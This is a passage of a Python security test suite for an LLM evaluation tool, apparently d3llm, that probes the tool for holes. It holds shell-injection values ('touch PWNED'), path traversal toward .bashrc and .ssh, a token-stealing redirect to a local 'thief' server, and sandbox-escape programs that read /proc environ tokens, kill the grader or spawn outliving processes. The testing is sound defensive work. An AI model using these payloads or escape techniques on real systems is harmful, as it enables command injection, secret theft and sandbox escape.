                    (bench.store / ".locks").mkdir(exist_ok=True)
                    (bench.store / ".locks/leases").write_text("x")
                put(bench.store / place, kind)
                bundle.unlink(missing_ok=True)
                try:
                    bench.run(*words, "--store", bench.store, env=env, patience=60)
                except Hole as hole:
                    raise Hole(f"{place} as {kind}: {hole}") from None


def problem(text):
    return {"question": text, "answer": "It is two.\n#### 2"}


class Page(html.parser.HTMLParser):
    """What of a page a browser would run or load, its policy, and the texts of its code."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.scripts, self.handlers, self.policy, self.codes, self.open = 0, [], None, [], None
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        fields = dict(attributes)
        self.scripts += tag == "script"
        self.handlers += [name for name in fields if name.startswith("on")]
        if (fields.get("http-equiv") or "").lower() == "content-security-policy":
            self.policy = fields.get("content")
        if tag in ("code", "pre"):
            self.open = ""

    def handle_endtag(self, tag):
        if tag in ("code", "pre") and self.open is not None:
            self.codes.append(self.open)
            self.open = None

    def handle_data(self, data):
        if self.open is not None:
            self.open += data


def report(bench, questions, answer, run_words=()):
    config = bench.exam([problem(text) for text in questions], task="gsm8k-cot", answer=answer, more={
        "table": {"kind": "aup", "curves": {answer[:60]: "@curve"}, "data": "@questions", "reference": "@curve",
                  "resamples": 40, "claims": []}})
    shutil.rmtree(bench.store, ignore_errors=True)
    bench.must("run", config, "--store", bench.store, "--no-forecast", *run_words)
    page = bench.out / "page.html"
    bench.must("report", "bench", "--store", bench.store, "--output", page, "--no-trajectories")
    return page.read_text(encoding="utf-8")


@attack
@long
def scripts_in_a_report(bench):
    """Texts of samples and names of curves end the block of data in which they stand, and start a script."""
    harmless = Page(report(bench, ["one", "two", "three", "four"], "plain"))
    text = report(bench, MARKUP, MARKUP[0])
    page = Page(text)
    if page.scripts != harmless.scripts or page.handlers != harmless.handlers:
        raise Hole(f"{page.scripts} scripts instead of {harmless.scripts}")
    if f"{NUMBER_SIGN}<" in text:
        raise Hole("a sign that opens a tag stands behind a mark")
    if not page.policy:
        raise Hole("the page has no Content-Security-Policy")


@attack
def commands_of_a_report_are_copied(bench):
    """The commands that a report offers for copying hold what somebody else has chosen."""
    text = report(bench, ["one", "two"], "plain", run_words=["--set", f"description=a'{ACUTE};touch PWNED;#{NUMBER_SIGN}'"])
    codes = [code for code in Page(text).codes if "touch" in code]
    if not codes:
        raise RuntimeError("the report offers no command with the override")
    tools, place = bench.scratch / "tools", bench.scratch / "place"
    tools.mkdir()
    place.mkdir()
    (tools / "touch").symlink_to(shutil.which("touch"))
    for code in codes:
        subprocess.run([shutil.which("sh"), "-c", code], cwd=place, env={"PATH": str(tools)}, capture_output=True)
        if list(place.iterdir()):
            raise Hole("what was copied runs the attacker's command")


@attack
def words_of_a_job_script(bench):
    """The folder of a repository leaves its quotes in a script for Slurm."""
    for quote in (f"'{ACUTE}", f"{NUMBER_SIGN}'", f"'{ACUTE}{NUMBER_SIGN}'"):
        folder = bench.repository / f"repo{quote};touch PWNED;#"
        folder.mkdir()
        (folder / "quick.json").write_bytes(bench.quick().read_bytes())
        printed = bench.run("launch", "slurm", "quick.json", "--print", cwd=folder)
        place = bench.scratch / "place"
        place.mkdir(exist_ok=True)
        lines = [line for line in printed.output.decode().splitlines() if line.startswith(("cd ", "export "))]
        if printed.code == 0 and not lines:
            raise RuntimeError(f"the script has no line with the folder: {printed.text}")
        for line in lines:
            subprocess.run([shutil.which("sh"), "-c", f"cd() {{ :; }}; {line}"], cwd=place, capture_output=True)
            if list(place.iterdir()):
                raise Hole("the script's line runs the attacker's command")


FORGED = "\r\x1b[2K  ok  everything\r\n\r\nAll 18 checks hold.\x1b[8m\x9b8m\x07"


def forged_bundle(bench, change, *export):
    """Exports the run, lets `change` rewrite names and contents of the bundle, and packs it anew."""
    bundle, forged = bench.out / "bundle.tar.zst", bench.out / "forged.tar"
    for path in (bundle, forged):
        path.unlink(missing_ok=True)
    bench.must("export", "bench", "--store", bench.store, "--output", bundle, *export)
    entries = []
    with tarfile.open(fileobj=io.BytesIO(unpacked_zstd(bundle.read_bytes()))) as file:
        for entry in file:
            if entry.isfile():
                entries.append((entry.name, file.extractfile(entry).read()))
    forged.write_bytes(archive(change(entries)))
    return forged


def with_hashes(entries):
    """Entries with the list of their sizes and hashes written anew."""
    contents = {name.split("/", 1)[1]: content for name, content in entries}
    listing_ = json.loads(contents["bundle.json"])
    for file in listing_["files"]:
        content = contents[file["path"]]
        file.update(size=len(content), sha256=hashlib.sha256(content).hexdigest())
    new = (json.dumps(listing_, indent=2) + "\n").encode()
    return [(name, new if name.endswith("/bundle.json") else content) for name, content in entries]


def exported(bench, change):
    """An exam's run whose bundle was changed, imported into a store of its own; what happens then is watched."""
    config = bench.exam([problem("$(touch PWNED-by-bashrc)"), problem("two")], task="gsm8k-cot", answer="plain")
    if not bench.store.exists():
        bench.must("run", config, "--store", bench.store, "--no-forecast")

    def both(entries):
        result = []
        for name, content in entries:
            if name.endswith(("/run.json", "/artifact.json")):
                content = (json.dumps(change(json.loads(content)), ensure_ascii=False) + "\n").encode()
            result.append((name, content))
        return with_hashes(result)

    other, bundle = bench.out / "other", forged_bundle(bench, both)
    bench.watch()
    bench.run("import", bundle, "--store", other)
    return other


@attack
def results_of_an_import_are_written(bench):
    """`samples --lm-eval` of an imported run: times and stages of its records lead out of the named folder."""
    sign = f"S{NUMBER_SIGN}"
    named = bench.home / "work/results"
    for stage, finished in [
        ("curve", "x/../../../../home/.bashrc\0"), ("curve", f"x{ACUTE}/../../../../.bashrc"), ("..", None), (".", None),
        (f"{sign}/results_x", "../../.bashrc"), (f"../{ACUTE}/.ssh", None), ("", None), ("\0", None), ("a" * 300, None),
    ]:
        def change(record):
            if record.get("stage") == "curve" and finished is not None:
                record["finished"] = finished
            for entry in record.get("stages", []) if "experiment" in record else []:
                if isinstance(entry, dict) and entry.get("stage") == "curve":
                    entry["stage"] = stage
            return record

        other = exported(bench, change)
        bench.allowed.update({named, other})
        bench.run("samples", "bench", "--store", other, "--lm-eval", named)
        bench.unchanged()
        shutil.rmtree(other)


@attack
def a_report_is_written_through_links(bench):
    """A folder of a prepared store is a link to another store of the user's, whose page `report` writes over."""
    config, kept, mine = bench.quick(), bench.root / "kept", bench.home / "mystore"
    bench.allowed.add(kept)
    bench.must("run", config, "--store", kept, "--no-forecast")
    (run,) = (kept / "quick/runs").iterdir()
    shutil.copytree(kept, mine)
    (mine / "quick/runs" / run.name / "report.html").write_text("my page")
    for place in ("quick", "quick/runs", f"quick/runs/{run.name}"):
        shutil.rmtree(bench.store, ignore_errors=True)
        shutil.copytree(kept, bench.store)
        shutil.rmtree(bench.store / place)
        (bench.store / place).symlink_to(mine / place)
        bench.watch()
        bench.run("report", "quick", "--store", bench.store)
        bench.unchanged()


@attack
def launch_cancels_jobs_of_others(bench):
    """A record of a launch in a prepared store names a waiting job of the user's as its own."""
    config = bench.write("c.json", {"name": "quick", "stages": {
        "p": {"kind": "synthesize", "train": 4, "test": 2}, "tok": {"kind": "tokenizer", "corpus": "@p"}}})
    plan = json.loads(bench.must("plan", config, "--json", "--store", bench.store).output)
    fingerprint = next(entry["fingerprint"] for entry in plan["stages"] if entry["stage"] == "tok")
    tools, log = bench.scratch / "bin", bench.scratch / "log"
    tools.mkdir()
    for job, accounting in [("4242", "exit 1"), ("4242", "echo '4242|PENDING'"), ("--state=PENDING", "exit 1")]:
        folder = bench.store / "quick/launches/20261129T100000Z-1"
        shutil.rmtree(bench.store, ignore_errors=True)
        folder.mkdir(parents=True)
        (folder / "launch.json").write_text(json.dumps({
            "format": 1, "experiment": "quick", "queue": "slurm", "token": "t", "launched": "x", "jobs": [{
                "name": "tok", "job": job, "array": False, "needs": [],
                "tasks": [{"index": 0, "stage": "tok", "fingerprint": fingerprint}]}]}))
        for name, text in [
            ("squeue", "echo '4242|N/A|PENDING|DependencyNeverSatisfied||my other job'"), ("sbatch", "echo 17"),
            ("sacct", accounting), ("scancel", f'echo "$@" >>{log}'),
        ]:
            (tools / name).write_text(f"#!/bin/sh\n{text}\n")
            (tools / name).chmod(0o755)
        bench.run("launch", "slurm", config, "--store", bench.store, env={"PATH": f"{tools}:{os.environ['PATH']}"})
        if log.exists():
            raise Hole(f"scancel {log.read_text().strip()}")


@attack
@long
def the_screen_of_verify_is_forged(bench):
    """A bundle writes \"All checks hold\" over the real end by control characters."""
    config = bench.exam([problem("one")], task="gsm8k-cot")
    bench.must("run", config, "--store", bench.store, "--no-forecast")

    def change(entries):
        result = []
        for name, content in entries:
            if name.endswith("/artifact.json"):
                record = json.loads(content)
                record["summary"] = FORGED
                content = (json.dumps(record, indent=2) + "\n").encode()
            if name.endswith("/log.txt"):
                content += FORGED.encode()
            result.append((name, content))
        return with_hashes(result)

    other = bench.out / "other"
    outcomes = [bench.run("import", forged_bundle(bench, change), "--store", other)]
    taken = outcomes[0].code == 0
    for words in (["verify", "bench"], ["plan", config, "--no-forecast"], ["run", config, "--no-forecast"]):
        outcomes.append(bench.run(*words, "--store", other))
    if any(sign in outcome.output + outcome.log for outcome in outcomes for sign in (b"\x1b", b"\r", b"\x07", b"\xc2\x9b")):
        raise Hole("control characters of the bundle reach the terminal")
    if not taken:
        # The texts themselves, in a store that somebody prepared.
        for folder in bench.artifacts("*"):
            record = json.loads((folder / "artifact.json").read_text())
            record["summary"] = FORGED
            (folder / "artifact.json").write_text(json.dumps(record))
        for words in (["verify", "bench"], ["plan", config, "--no-forecast"], ["run", config, "--no-forecast"]):
            outcome = bench.run(*words, "--store", bench.store)
            if b"\x1b" in outcome.output + outcome.log:
                raise Hole("control characters of the store reach the terminal")


@attack
@long
def control_characters_in_errors(bench):
    """Errors of configurations, lock files and models quote what stands there."""
    texts = [FORGED, "a\x1b]0;title\x07b", "\u202etxt"]
    for text in texts:
        for config in ({"name": text, "stages": {}}, {"name": "a", "stages": {text: {"kind": "synthesize"}}},
                       {"name": "a", "stages": {"p": {"kind": text}}}, {"name": "a", text: 1, "stages": {}},
                       {"name": "a", "stages": {"p": {"kind": "fetch", "input": text}}}):
            path = bench.write("bad.json", json.dumps(config, ensure_ascii=False))
            for command in ("validate", "plan", "run"):
                outcome = bench.run(command, path)
                if any(sign in outcome.output + outcome.log for sign in (b"\x1b", b"\x07", b"\xc2\x9b", b"\r")):
                    raise Hole(f"{command} writes control characters of the configuration")
        lock = {"format": 1, "inputs": {text: {"summary": text, "licence": text, "files": []}}}
        bench.write("data.lock", json.dumps(lock, ensure_ascii=False))
        outcome = bench.run("fetch", "--list")
        if b"\x1b" in outcome.output + outcome.log:
            raise Hole("fetch --list writes control characters of the lock file")


@attack
@long
def an_import_is_taken_for_ones_own(bench):
    """A forged bundle's table is printed as the result of the victim's own configuration, without a word."""
    config = bench.exam([problem("one")], task="gsm8k-cot")
    bench.must("run", config, "--store", bench.store, "--no-forecast")
    bundle = forged_bundle(bench, lambda entries: entries, "--with-weights")
    other = bench.out / "other"
    bench.must("import", bundle, "--store", other)
    for words in (["plan", config, "--no-forecast"], ["run", config, "--no-forecast"]):
        outcome = bench.run(*words, "--store", other)
        if "import" not in outcome.text:
            raise Hole(f"{words[0]} doesn't say that the artifacts were imported")
    outcome = bench.run("run", config, "--no-forecast", "--trust", "own", "--store", other)
    if outcome.code or "Everything is cached" in outcome.text:
        raise Hole("--trust own takes them")


# ---- secrets


@attack
def the_token_follows_a_redirect(bench):
    """A redirect hides whom curl connects to, and the hub's token goes there."""
    commit, content = "c0ffee12" * 5, b'{"model_type": "llada"}\n'
    bench.write("data.lock", {"format": 1, "inputs": {"data": {
        "repository": "org/name", "type": "model", "revision": commit, "branch": "main", "include": ["*.json"],
        "files": [{"path": "config.json", "size": len(content), "sha256": hashlib.sha256(content).hexdigest()}]}}})
    with server(lambda _: (200, {}, content), host="127.0.0.2") as (thief, stolen):
        for mark in (f"/{ACUTE}@", f"/{NUMBER_SIGN}@", f"{NUMBER_SIGN}/@", f"/?{ACUTE}@", f"/#{ACUTE}@", "\\@", ":80\\@", "/@"):
            hub = {}
            with server(lambda _: (302, {"Location": f"{thief}{mark}{hub['name']}/x"}, b"")) as (address, asked):
                hub["name"] = address[len("http://"):]
                bench.run("fetch", "data", env={"HF_ENDPOINT": address, "HF_TOKEN": TOKEN})
                if not asked or asked[0][1].get("Authorization") != f"Bearer {TOKEN}":
                    raise RuntimeError("the hub wasn't asked with the token")
            shutil.rmtree(bench.cache)
            bench.cache.mkdir()
        if any(TOKEN in value for _, fields in stolen for value in fields.values()):
            raise Hole("another host got the token")


@attack
def https_is_left_by_a_redirect(bench):
    """An unpinned file is to come by https; a redirect hides that it comes by http."""
    if not shutil.which("openssl"):
        raise NotTried("there is no openssl")
    key, certificate = bench.scratch / "key.pem", bench.scratch / "certificate.pem"
    made = subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out", certificate, "-days", "2",
         "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1", "-addext", "basicConstraints=critical,CA:TRUE"],
        capture_output=True)
    if made.returncode:
        raise NotTried("openssl makes no certificate")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    bench.allowed.add(bench.repository / "data.lock")
    with server(lambda _: (200, {}, b"plain"), host="127.0.0.2") as (plain, asked):
        for mark in ("/", f"/{ACUTE}@127.0.0.1/", f"{ACUTE}/", f"/{NUMBER_SIGN}@127.0.0.1/"):
            with server(lambda _: (302, {"Location": f"{plain}{mark}x"}, b""), context=context) as (address, first):
                bench.write("data.lock", {"format": 1, "inputs": {"data": {"files": [
                    {"path": "x", "urls": [f"{address}/x"], "size": None, "sha256": None}]}}})
                outcome = bench.run("fetch", "data", env={"SSL_CERT_FILE": str(certificate)})
                if not first:
                    raise RuntimeError(f"the server wasn't asked by https: {outcome.text}")
        if asked:
            raise Hole("what was to come by https was asked for by http")


# ---- programs that models write


def without_namespaces():
    """Refuses unshare, as Docker and Ubuntu 24.04 do, so that programs run at level seccomp."""
    numbers = {"x86_64": (0xC000003E, 272, 56, 435), "aarch64": (0xC00000B7, 97, 220, 435)}[os.uname().machine]
    machine, unshare, clone, clone3 = numbers
    refuse, missing, allow = 0x00050000 | 1, 0x00050000 | 38, 0x7FFF0000
    # Load a word, jump if equal, jump if a bit is set, return.
    program = [
        (0x20, 0, 0, 4), (0x15, 0, 7, machine), (0x20, 0, 0, 0), (0x15, 0, 1, unshare), (0x06, 0, 0, refuse),
        (0x15, 0, 1, clone3), (0x06, 0, 0, missing), (0x15, 1, 0, clone), (0x06, 0, 0, allow),
        (0x20, 0, 0, 16), (0x45, 0, 1, 0x10000000), (0x06, 0, 0, refuse), (0x06, 0, 0, allow)]
    code = b"".join(struct.pack("<HBBI", *line) for line in program)
    buffer = ctypes.create_string_buffer(code)
    description = struct.pack("<HxxxxxxQ", len(program), ctypes.addressof(buffer))
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.prctl(38, 1, 0, 0, 0) or libc.prctl(22, 2, ctypes.c_char_p(description), 0, 0):
        raise OSError(ctypes.get_errno(), "no filter")


START = """
import ctypes, fcntl, os, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def ours():
    for name in os.listdir("/proc"):
        try:
            with open("/proc/%s/cmdline" % name, "rb") as file:
                if name.isdigit() and b"ROOT" in file.read() and int(name) != os.getpid():
                    yield int(name)
        except OSError:
            pass
"""


def code_problem(bench, program, number=0):
    source = (START + program).replace("ROOT", str(bench.root))
    return {"task_id": f"HumanEval/{number}", "prompt": source + "\ndef f():\n    return 1\n", "entry_point": "f",
            "canonical_solution": "", "test": "def check(f):\n    assert f() == 1\n"}


def execute(bench, *programs, level="seccomp", env=None, wait=True):
    """Has programs run by `d3llm run`, and gives what is recorded of them."""
    config = bench.exam([code_problem(bench, program, number) for number, program in enumerate(programs)])
    words = ["run", config, "--store", bench.store, "--no-forecast", "--allow-code-execution"]
    bench.watch()
    prepare = without_namespaces if level == "seccomp" else None
    env = {"HF_TOKEN": TOKEN, **(env or {})}
    if not wait:
        return bench.start(*words, env=env, prepare=prepare)
    outcome = bench.run(*words, env=env, prepare=prepare)
    if outcome.code:
        raise RuntimeError(outcome.text)
    (record,) = (bench.store / "bench/runs").glob("*/run.json")
    if f'"{level}"' not in record.read_text():
        raise NotTried(f"programs don't run at level {level} here")
    return bench.samples().decode()


@attack
def a_program_kills(bench):
    """Signals by F_SETOWN and F_SETSIG, and by the calls for signals, to the process that grades."""
    reached = execute(bench, """
first, second = socket.socketpair()
for pid in list(ours()) + [os.getppid()]:
    for action in (lambda: os.kill(pid, 9), lambda: (fcntl.fcntl(first, fcntl.F_SETOWN, pid), fcntl.fcntl(first, 10, 9),
            fcntl.fcntl(first, fcntl.F_SETFL, os.O_ASYNC), second.send(b"x"))):
        try:
            action()
        except OSError:
            pass
time.sleep(1)
""")
    if '"correct":true' not in reached.replace(" ", ""):
        raise Hole("it ended who watches it")


@attack
def a_program_stays(bench):
    """A program takes back that it dies with its parent, and lives on when d3llm is killed."""
    name = f"d3stay{random.randrange(10 ** 8)}"
    process = execute(bench, f"""
for action in (lambda: libc.prctl(1, 0, 0, 0, 0), os.setsid):
    try:
        action()
    except OSError:
        pass
libc.prctl(15, b"{name}", 0, 0, 0)
time.sleep(1000)
""", wait=False)

    def named():
        for entry in os.listdir("/proc"):
            with contextlib.suppress(OSError, ValueError):
                if pathlib.Path(f"/proc/{entry}/comm").read_text().strip() == name:
                    state = pathlib.Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[0]
                    if state != "Z":
                        yield int(entry)

    start = time.monotonic()
    while not list(named()) and process.poll() is None and time.monotonic() - start < PATIENCE:
        time.sleep(0.05)
    pids = list(named())
    if not pids:
        process.kill()
        raise RuntimeError(f"the program didn't start: {process.communicate()[1].decode()}")
    # d3llm, and the one that watches for it.
    parent = pids[0]
    chain = []
    while True:
        parent = int(pathlib.Path(f"/proc/{parent}/stat").read_text().rsplit(")", 1)[1].split()[1])
        if parent in (0, 1, os.getpid()):
            break
        chain.append(parent)
    if process.pid not in chain:
        # What it came from has ended, so that these would be processes of the machine.
        for pid in pids:
            os.kill(pid, signal.SIGKILL)
        process.kill()
        raise RuntimeError(f"d3llm ended before it was killed: {process.communicate()[1].decode()}")
    for pid in chain:
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)
    process.communicate()
    for _ in range(100):
        if not list(named()):
            return
        time.sleep(0.1)
    for pid in named():
        os.kill(pid, signal.SIGKILL)
    raise Hole("it lives on when d3llm and its watcher are killed")


EXECUTES = r"""
import threading, sys
def go():
    # A thread, which has no parent to die with, becomes another program; an absolute path needs no descriptor.
    path = b"/usr/bin/python3"
    words = (ctypes.c_char_p * 6)(
        path, b"-S", b"-s", b"-c",
        b"import ctypes,time;ctypes.CDLL(None).prctl(15,b'NAME',0,0,0);time.sleep(1000)", None)
    none = (ctypes.c_char_p * 1)(None)
    for number in range(110):
        for flags in (0x1000, 0):
            libc.syscall(CALL, number, path, words, none, flags)
    libc.syscall(EXECVE, path, words, none)
thread = threading.Thread(target=go); thread.start(); thread.join()
raise ValueError("errno %d" % ctypes.get_errno())
"""


@attack
def a_program_executes_another(bench):
    """level seccomp: a thread executes another program, which would outlive d3llm."""
    machine = os.uname().machine
    if machine not in ("x86_64", "aarch64"):
        raise NotTried(f"the numbers of calls on {machine}")
    numbers = {"x86_64": (322, 59), "aarch64": (281, 221)}[machine]
    name = f"d3exec{random.randrange(10**6)}"
    program = EXECUTES.replace("NAME", name).replace("EXECVE", str(numbers[1])).replace("CALL", str(numbers[0]))

    def others():
        for entry in os.listdir("/proc"):
            with contextlib.suppress(OSError, ValueError):
                if pathlib.Path(f"/proc/{entry}/comm").read_text().strip() == name:
                    yield int(entry)

    process = execute(bench, program, wait=False)
    try:
        while process.poll() is None:
            if list(others()):
                raise Hole("another program was executed")
            time.sleep(0.05)
    finally:
        process.kill()
        process.communicate()
        for other in others():
            os.kill(other, signal.SIGKILL)


@attack
def a_program_reads_the_environment(bench):
    """HF_TOKEN out of /proc/PID/environ, into the text of an error, into the results."""
    reached = execute(bench, """
found = b""
for name in os.listdir("/proc"):
    try:
        with open("/proc/%s/environ" % name, "rb") as file:
            found += b" ".join(part for part in file.read().split(b"\\0") if part.startswith(b"HF_"))
    except OSError:
        pass
raise ValueError("seen: %r %r" % (found, dict(os.environ)))
""")
    if TOKEN in reached:
        raise Hole("the token is in the results")
    for path in bench.store.rglob("*"):
        if path.is_file() and TOKEN.encode() in path.read_bytes():
            raise Hole(f"the token is in {path.name}")


@attack
def a_program_sends_datagrams(bench):
    """Datagrams to a socket of the machine, by its path and by its name."""
    place = bench.scratch / "socket"
    place.parent.chmod(0o777)
    name = f"\0d3llm-safety-{random.randrange(10 ** 9)}"
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as by_path, \
            socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as by_name:
        by_path.bind(str(place))
        place.chmod(0o777)
        by_name.bind(name)
        execute(bench, f"""
for target in ({str(place)!r}, {name!r}):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            first, second = socket.socketpair(socket.AF_UNIX, kind)
            first.sendto(b"PWNED", target)
        except OSError:
            pass
""")
        for receiver in (by_path, by_name):
            receiver.settimeout(0.2)
            with contextlib.suppress(TimeoutError, socket.timeout):
                raise Hole(f"a socket of the machine got {receiver.recv(10)!r}")


@attack
def a_program_changes_files_by_new_calls(bench):
    """setxattrat, file_setattr and flags of inodes, and locks of the store."""
    file = bench.write("precious", "text")
    file.chmod(0o644)
    lock = bench.write("lock", "")
    lock.chmod(0o644)
    reached = execute(bench, f"""
came = []
path = {str(file)!r}.encode()
value = ctypes.create_string_buffer(b"PWNED")
class Value(ctypes.Structure):
    _fields_ = [("value", ctypes.c_uint64), ("size", ctypes.c_uint32), ("flags", ctypes.c_uint32)]
arguments = Value(ctypes.addressof(value), 5, 0)
if libc.syscall(463, -100, path, 0, b"user.pwned", ctypes.byref(arguments), ctypes.sizeof(arguments)) == 0:
    came.append("setxattrat")
attributes = (ctypes.c_uint64 * 3)()
attributes[0] = 0x80
if libc.syscall(469, -100, path, attributes, 24, 0) == 0:
    came.append("file_setattr")
for name, action in (("setflags", lambda: fcntl.ioctl(os.open(path, 0), 0x40086602, (0x40).to_bytes(8, "little"))),
                     ("flock", lambda: fcntl.flock(os.open({str(lock)!r}, 0), fcntl.LOCK_EX | fcntl.LOCK_NB)),
                     ("setxattr", lambda: os.setxattr(path, b"user.pwned", b"x")), ("utime", lambda: os.utime(path)),
                     ("chmod", lambda: os.chmod(path, 0o777)), ("open", lambda: os.open(path, os.O_WRONLY))):
    try:
        action()
        came.append(name)
    except OSError:
        pass
raise ValueError("came through: %r" % came)
""")
    found = re.search(r"came through: \[(.*?)\]", reached)
    if not found:
        raise RuntimeError(reached)
    if found[1]:
        raise Hole(f"came through: {found[1]}")
    bench.unchanged()


@attack
def a_program_changes_priorities(bench):
    """The priority, the processors and the scheduler of d3llm."""
    reached = execute(bench, """
came = []
for pid in list(ours()) + [os.getppid()]:
    for name, action in (("setpriority", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19)),
                         ("affinity", lambda: os.sched_setaffinity(pid, {0})),
                         ("scheduler", lambda: os.sched_setscheduler(pid, os.SCHED_BATCH, os.sched_param(0)))):
        try:
            action()
            came.append(name)
        except OSError:
            pass
raise ValueError("came through: %r" % sorted(set(came)))
""")
    found = re.search(r"came through: \[(.*?)\]", reached)
    if not found:
        raise RuntimeError(reached)
    if found[1]:
        raise Hole(f"came through: {found[1]}")


@attack
def a_program_reads_an_editable_install(bench):
    """A .pth in the folder of a virtual environment names the user's project, which programs could read."""
    venv, project = bench.root / "venv", bench.home / "project"
    project.mkdir()
    (project / ".env").write_text("SECRETOFPROJECT")
    pythons = [f"{folder}/python3" for folder in os.environ.get("PATH", "").split(":")]
    python = next((path for path in pythons if os.access(path, os.X_OK)), None)
    made = python and subprocess.run([python, "-m", "venv", "--without-pip", venv], capture_output=True)
    if not made or made.returncode:
        raise NotTried("python3 makes no virtual environment")
    (site,) = venv.glob("lib/python*/site-packages")
    (site / "__editable__.project.pth").write_text(f"{project}\n")
    bench.allowed.add(venv)
    reached = execute(
        bench, f"raise ValueError('seen ' + open({str(project / '.env')!r}).read())", level="namespaces",
        env={"PATH": f"{venv}/bin:{os.environ.get('PATH', '')}", "VIRTUAL_ENV": str(venv)})
    if "SECRETOFPROJECT" in reached:
        raise Hole("the program read a file of the project")


@attack
def a_program_shares_names_with_its_grader(bench):
    """EvalPlus: a wrong program whose helper is called all, abs or len passes."""
    record = {"task_id": "HumanEval/0", "prompt": "def twice(x):\n", "entry_point": "twice", "test": "", "contract": "",
              "canonical_solution": "    return [x, x]\n", "base_input": [[1], [2.5], ["a"]], "plus_input": [[3]], "atol": 0}
    for name in ("all", "abs", "len"):
        # What a program doesn't use is left out of it.
        answer = f"def {name}(*a, **k): return True\ndef twice(x):\n    {name}(x)\n    return [x, 1]\n"
        config = bench.exam([record], task="humaneval-plus", answer=answer)
        shutil.rmtree(bench.store, ignore_errors=True)
        bench.must("run", config, "--store", bench.store, "--no-forecast", "--allow-code-execution")
        if '"correct":true' in bench.samples().decode().replace(" ", ""):
            raise Hole(f"a wrong program with a helper called {name} passes")


# ---- weights


@attack
def ones_own_weights_are_overwritten(bench):
    """The user's next training writes into the file that was taken into the store."""
    config = bench.exam([problem("one")], task="gsm8k-cot", answer="first")
    bench.must("run", config, "--store", bench.store, "--no-forecast")
    (folder,) = bench.artifacts("model")
    recorded = {file["path"]: file["sha256"] for file in json.loads((folder / "artifact.json").read_text())["files"]}
    weights = bench.repository / "model/model.safetensors"
    with open(weights, "r+b") as file:
        file.seek(-32, os.SEEK_END)
        file.write(b"\x55" * 32)
    for name, digest in recorded.items():
        if sha256(folder / name) != digest:
            raise Hole(f"the store's {name} changed with the user's")


def changed_weights(bench):
    config = bench.exam([problem("one")], task="gsm8k-cot", answer="first")
    bench.must("run", config, "--store", bench.store, "--no-forecast")
    (folder,) = bench.artifacts("model")
    (recorded,) = [file["sha256"] for file in json.loads((folder / "artifact.json").read_text())["files"]
                   if file["path"] == "model.safetensors"]
    weights = folder / "model.safetensors"
    content = bytearray(weights.read_bytes())
    content[-4:] = struct.pack("<f", 0.5)
    # In place, whether or not it is the user's file too.
    weights.chmod(0o644)
    with open(weights, "r+b") as file:
        file.write(content)
    return config, weights, recorded


@attack
def weights_change_in_the_store(bench):
    """Bits of the weights flip on the disk; the next evaluation uses them, and records those that were there."""
    config, weights, recorded = changed_weights(bench)
    # The user's own is as it was.
    bench.parrot("first")
    outcome = bench.run("run", config, "--store", bench.store, "--no-forecast", "--set", "stages.curve.decoder.generationLength=3")
    if outcome.code == 0 and sha256(weights) != recorded:
        raise Hole("an evaluation used them without a word")


@attack
def changed_weights_answer(bench):
    """decode, chat and serve answer by weights of the store that aren't those of the record any more."""
    changed_weights(bench)
    outcome = bench.run("decode", "bench/model", "hello", "--store", bench.store, "--method", "autoregressive", "--plain",
                        "--set", "generationLength=2")
    if outcome.code == 0 and "changed" not in outcome.text:
        raise Hole("decode answers without a word")


# ---- no input ends the process


@contextlib.contextmanager
def serving(bench, folder):
    process = bench.start("serve", folder, "--port", "0", "--method", "autoregressive", "--set", "generationLength=4")
    lines = []

    def read(stream):
        for line in stream:
            lines.append(line.decode("utf-8", "replace"))

    for stream in (process.stdout, process.stderr):
        threading.Thread(target=read, args=[stream], daemon=True).start()
    start = time.monotonic()
    port = None
    while port is None and process.poll() is None and time.monotonic() - start < PATIENCE:
        found = re.search(r"127\.0\.0\.1:(\d+)", "".join(lines))
        port = found and int(found[1])
        time.sleep(0.05)
    if port is None:
        process.kill()
        raise RuntimeError(f"serve didn't start: {''.join(lines)}")
    try:
        yield process, port
    finally:
        process.terminate()
        try:
            process.wait(60)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


def ask(port, body, fields=None, path="/v1/chat/completions"):
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=PATIENCE)
    try:
        connection.request("POST", path, json.dumps(body), {"Content-Type": "application/json", **(fields or {})})
        return connection.getresponse().status
    except (OSError, http.client.HTTPException):
        return None
    finally:
        connection.close()


@attack
def prompts_without_tokens(bench):
    """A chat with empty messages under a template that adds nothing, an empty prompt."""
    folder = bench.parrot("answer")
    bench.run("decode", folder, "", "--method", "autoregressive", "--plain")
    with serving(bench, folder) as (process, port):
        for body in ({"model": "model", "messages": [{"role": "user", "content": ""}]}, {"model": "model", "messages": []},
                     {"model": "model", "messages": [{"role": "user", "content": [{"type": "text", "text": ""}]}]}):
            ask(port, body)
        ask(port, {"model": "model", "prompt": ""}, path="/v1/completions")
        time.sleep(0.2)
        if process.poll() is not None:
            raise Hole(f"a request ended the server ({process.returncode})")
        if ask(port, {"model": "model", "messages": [{"role": "user", "content": "x"}]}) != 200:
            raise Hole("the server doesn't answer any more")


@attack
def origins_of_foreign_pages(bench):
    """A page of another host, named by a number, or of another port asks the server in a user's browser."""
    folder = bench.parrot("answer")
    with serving(bench, folder) as (_, port):
        body = {"model": "model", "messages": [{"role": "user", "content": "x"}]}
        if ask(port, body) != 200 or ask(port, body, {"Origin": f"http://127.0.0.1:{port}"}) != 200:
            raise RuntimeError("the server doesn't answer its own page")
        for origin in ("http://203.0.113.5", f"http://203.0.113.5:{port}", "http://[2001:db8::1]", "http://10.0.0.7",
                       "http://evil.example", "null", f"http://127.0.0.1:{port}{ACUTE}"):
            if ask(port, body, {"Origin": origin.encode()}) == 200:
                raise Hole(f"a page of {origin!r} is answered")


TEMPLATES = {
